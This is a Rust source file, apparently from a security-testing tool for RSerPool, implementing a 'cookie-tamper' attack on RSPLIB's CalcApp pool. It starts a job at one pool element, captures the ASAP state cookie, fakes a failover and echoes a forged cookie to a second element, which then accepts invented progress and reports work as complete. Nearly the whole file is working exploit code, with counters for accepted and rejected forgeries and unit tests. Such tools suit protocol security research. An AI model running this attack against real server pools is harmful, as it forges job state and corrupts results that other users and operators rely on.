//! `cookie-tamper` (RFC 5355 §2.16): a pool user of a CalcApp pool that
//! alters the state cookie it echoes after failover. Per action it starts
//! a job at one PE (chosen by the seed among those the first target
//! resolves), waits for the PE's first ASAP Cookie (the job's state),
//! leaves that PE as if it had failed, opens a session with another PE and
//! echoes the cookie with the state altered (`--tamper`). RSPLIB's CalcApp
//! PE takes a cookie echo as it comes: it accepts the job with the forged
//! progress and, for `completed`, reports it complete at once.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use client_core::policy::Rng;
use client_core::wire::{self, consts, AsapMessage, PoolElement, Protocol};
use rserpool_sctp::SctpAssociation;

use super::biased_pu::session_endpoint;
use super::{choose, delta, spawn_sampler, Act, Attack, Common, Ctx};
use crate::calcapp::{self, JobState, Kind, Tamper};
use crate::fields;
use crate::messages;
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

/// Longest wait for the first PE's cookie, and for the second PE's answer.
pub const ANSWER_TIMEOUT: Duration = Duration::from_secs(3);
/// How long the attacker waits for the new PE's Complete after its Accept.
pub const COMPLETE_WAIT: Duration = Duration::from_millis(500);

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// A registrar's ASAP endpoint, resolved once for the pool's PEs.
    #[command(flatten)]
    pub common: Common,
    /// What the echoed state claims.
    #[arg(long, value_enum, default_value_t = Tamper::Completed)]
    pub tamper: Tamper,
    /// Calculations per job asked of the first PE.
    #[arg(
        long = "job-size",
        value_name = "CALCULATIONS",
        default_value_t = 10_000_000
    )]
    pub job_size: u64,
    /// Interval of the attacker's sample lines.
    #[arg(long = "sample-ms", value_name = "MS", default_value_t = 250)]
    pub sample_ms: u64,
}

/// What a CalcApp pool user hears on a session: a CalcApp message, or the
/// PE's cookie (the job state it would take back from a cookie echo).
#[derive(Debug, PartialEq)]
pub enum Heard {
    CalcApp(calcapp::Message),
    Cookie(Vec<u8>),
    Other,
}

/// Sorts one message of a session by its PPID.
pub fn heard(ppid: u32, data: &[u8]) -> Heard {
    match ppid {
        calcapp::PPID_CALCAPP => calcapp::Message::parse(data).map_or(Heard::Other, Heard::CalcApp),
        consts::PPID_ASAP => match wire::decode(Protocol::Asap, data).map(|d| d.message) {
            Ok(wire::Message::Asap(AsapMessage::Cookie(c))) => Heard::Cookie(c.0),
            _ => Heard::Other,
        },
        _ => Heard::Other,
    }
}

/// The next thing heard on `assoc` that `want` picks, within `timeout`.
async fn await_heard<T>(
    assoc: &SctpAssociation,
    timeout: Duration,
    mut want: impl FnMut(Heard) -> Option<T>,
) -> Result<Option<T>> {
    let r = tokio::time::timeout(timeout, async {
        loop {
            let m = assoc.recv().await.context("receiving")?;
            if let Some(t) = want(heard(m.ppid, &m.data)) {
                return Ok::<_, anyhow::Error>(t);
            }
        }
    })
    .await;
    match r {
        Ok(r) => r.map(Some),
        Err(_) => Ok(None),
    }
}

#[derive(Default)]
struct Tally {
    echoed: AtomicU64,
    accepted: AtomicU64,
    rejected: AtomicU64,
    forged_completes: AtomicU64,
}

struct CookieTamper {
    pes: Vec<(u32, SocketAddr)>,
    tamper: Tamper,
    job_size: u64,
    tally: Arc<Tally>,
}

impl Attack for CookieTamper {
    async fn act(&mut self, seq: u64, rng: &mut Rng, _out: &Output) -> Result<Act> {
        let pair = choose(&self.pes, 2, rng);
        let [(first_id, first), (second_id, second)] = pair[..] else {
            bail!("a failover needs two PEs in the pool");
        };
        let job_id = u32::try_from(seq + 1).unwrap_or(u32::MAX);
        // The job at the first PE, until its state comes as a cookie.
        let a = net::connect(None, first).await?;
        a.send(
            calcapp::PPID_CALCAPP,
            0,
            &calcapp::Message::request(job_id, self.job_size).to_bytes(),
        )
        .await
        .context("sending the CalcApp request")?;
        let cookie = await_heard(&a, ANSWER_TIMEOUT, |h| match h {
            Heard::Cookie(c) => Some(c),
            _ => None,
        })
        .await?
        .with_context(|| format!("no cookie from {first} within {ANSWER_TIMEOUT:?}"))?;
        let real = JobState::parse(&cookie)?;
        // "Failover": the first PE is left, the second is given the
        // altered state.
        let _ = a.shutdown();
        drop(a);
        let forged = self.tamper.apply(real);
        let b = net::connect(None, second).await?;
        net::send_asap(&b, &messages::cookie_echo(forged.to_bytes())).await?;
        self.tally.echoed.fetch_add(1, Ordering::Relaxed);
        // RSPLIB's PE keeps a cookie echo until its next read of the
        // session, which only a further message brings: a Keep-Alive for
        // the job, as a failed-over CalcApp pool user sends.
        b.send(
            calcapp::PPID_CALCAPP,
            0,
            &calcapp::Message::new(Kind::KeepAlive, forged.job_id).to_bytes(),
        )
        .await
        .context("sending the keep-alive after the echo")?;
        let answer = await_heard(&b, ANSWER_TIMEOUT, |h| match h {
            Heard::CalcApp(m)
                if m.job_id == forged.job_id && matches!(m.kind, Kind::Accept | Kind::Reject) =>
            {
                Some(m.kind)
            }
            _ => None,
        })
        .await?;
        let accepted = answer == Some(Kind::Accept);
        let mut reported: Option<calcapp::Message> = None;
        if accepted {
            self.tally.accepted.fetch_add(1, Ordering::Relaxed);
            reported = await_heard(&b, COMPLETE_WAIT, |h| match h {
                Heard::CalcApp(m) if m.job_id == forged.job_id && m.kind == Kind::Complete => {
                    Some(m)
                }
                _ => None,
            })
            .await?;
            // Complete with the forged figures: the PE reports work done
            // that nobody did.
            if reported.is_some_and(|m| m.completed >= forged.completed.min(forged.job_size))
                && forged.completed > real.completed
            {
                self.tally.forged_completes.fetch_add(1, Ordering::Relaxed);
            }
        } else if answer == Some(Kind::Reject) {
            self.tally.rejected.fetch_add(1, Ordering::Relaxed);
        }
        let _ = b.shutdown();
        Ok((
            "tampered-cookie-echo",
            fields! {
                "first_pe" => wire::PoolElementId(first_id).to_string(),
                "second_pe" => wire::PoolElementId(second_id).to_string(),
                "job_id" => job_id,
                "real_completed" => real.completed,
                "real_size" => real.job_size,
                "echoed_completed" => forged.completed,
                "echoed_size" => forged.job_size,
                "answer" => match answer {
                    Some(Kind::Accept) => "accept",
                    Some(Kind::Reject) => "reject",
                    _ => "none",
                },
                "complete_reported" => reported.map(|m| m.completed),
            },
        ))
    }
}

fn endpoints(listed: &[PoolElement]) -> Vec<(u32, SocketAddr)> {
    listed
        .iter()
        .filter_map(|e| session_endpoint(e).map(|a| (e.id.0, a)))
        .collect()
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let target = ctx.targets[0];
    let pool = ctx.pool.clone();
    let Some(listed) = ctx
        .setup(async {
            let assoc = net::connect(None, target).await?;
            let listed = net::resolve_all(&assoc, &pool).await?;
            let _ = assoc.shutdown();
            if listed.len() < 2 {
                bail!(
                    "pool {pool} lists {} PEs; a failover needs two",
                    listed.len()
                );
            }
            Ok(listed)
        })
        .await
    else {
        return Ok(());
    };
    let tally = Arc::new(Tally::default());
    let sampler = {
        let tally = tally.clone();
        let (mut e, mut acc, mut rej, mut fc) = (0, 0, 0, 0);
        spawn_sampler(ctx.out.clone(), a.sample_ms, move || {
            fields! {
                "tampered_echoed" => delta(&tally.echoed, &mut e),
                "tampered_accepted" => delta(&tally.accepted, &mut acc),
                "tampered_rejected" => delta(&tally.rejected, &mut rej),
                "forged_completes" => delta(&tally.forged_completes, &mut fc),
            }
        })
    };
    let mut attack = CookieTamper {
        pes: endpoints(&listed),
        tamper: a.tamper,
        job_size: a.job_size.max(1),
        tally: tally.clone(),
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    // The last interval's counts, then the end.
    tokio::time::sleep(Duration::from_millis(a.sample_ms.min(500))).await;
    sampler.abort();
    super::done(
        &ctx,
        f,
        fields! {
            "echoed" => tally.echoed.load(Ordering::Relaxed),
            "accepted" => tally.accepted.load(Ordering::Relaxed),
            "rejected" => tally.rejected.load(Ordering::Relaxed),
            "forged_completes" => tally.forged_completes.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sessions_messages_are_told_apart_by_ppid() {
        let accept = calcapp::Message::new(Kind::Accept, 3);
        assert_eq!(
            heard(calcapp::PPID_CALCAPP, &accept.to_bytes()),
            Heard::CalcApp(accept)
        );
        let state = JobState {
            job_id: 3,
            job_size: 10,
            completed: 4,
        }
        .to_bytes();
        let cookie = client_core::wire::Message::Asap(AsapMessage::Cookie(
            client_core::wire::Cookie(state.clone()),
        ))
        .to_bytes();
        assert_eq!(heard(consts::PPID_ASAP, &cookie), Heard::Cookie(state));
        assert_eq!(heard(consts::PPID_ASAP, &[0xff; 3]), Heard::Other);
        assert_eq!(heard(0, b"hello"), Heard::Other);
    }

    #[test]
    fn the_echo_carries_the_altered_state_not_the_pes() {
        let real = JobState {
            job_id: 9,
            job_size: 1_000_000,
            completed: 200_000,
        };
        let echo = messages::cookie_echo(Tamper::Completed.apply(real).to_bytes());
        let d = wire::decode(Protocol::Asap, &echo).unwrap();
        let wire::Message::Asap(AsapMessage::CookieEcho(c)) = d.message else {
            panic!("not a cookie echo: {:?}", d.message);
        };
        let echoed = JobState::parse(&c.0).unwrap();
        assert_eq!(echoed.job_id, 9);
        assert_eq!(echoed.completed, 999_999);
        assert_ne!(c.0, real.to_bytes());
    }
}
